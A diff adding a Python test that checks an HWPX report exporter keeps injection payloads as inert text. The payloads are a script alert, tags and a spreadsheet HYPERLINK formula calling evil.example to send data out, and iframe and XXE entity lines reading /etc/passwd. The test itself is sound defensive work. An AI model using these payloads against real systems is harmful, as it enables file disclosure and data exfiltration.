@@ -167,3 +167,26 @@ def test_the_result_pdf_keeps_every_character_of_a_long_unbroken_line(world):
         ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
     ).stdout.decode()
     assert text.count("가") >= 5000
+
+
+def test_the_result_hwpx_keeps_hostile_text_literal(world, no_network):
+    from tests.reports.hwpx_reading import read_hwpx, section_xml
+
+    exporters = pytest.importorskip("reports.exporters", reason="reports.exporters not built yet")
+    data = make_hostile_council(world, texts=ALL)
+    filename, content_type, hwpx = exporters.render_hwpx_export(data.meeting, final_only=False)
+    assert filename.endswith(".hwpx") and content_type == "application/hwp+zip"
+    text = "".join("".join(read_hwpx(hwpx).blocks).split())
+    for payload in (
+        "<script>alert(1)</script>",
+        '<imgsrc="http://evil.example/track.png">',
+        '<iframesrc="file:///etc/passwd"></iframe>',
+        '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
+        "&lt;script&gt;alert(26)&lt;/script&gt;",
+        '<!DOCTYPEx[<!ENTITYeSYSTEM"file:///etc/passwd">]><x>&e;</x>',
+    ):
+        assert payload in text, payload
+    assert text.count("가") >= 5000  # the long line whole
+    xml = section_xml(hwpx)
+    assert "root:x:0:0" not in xml and "<script>" not in xml and "<iframe" not in xml
+    assert not no_network
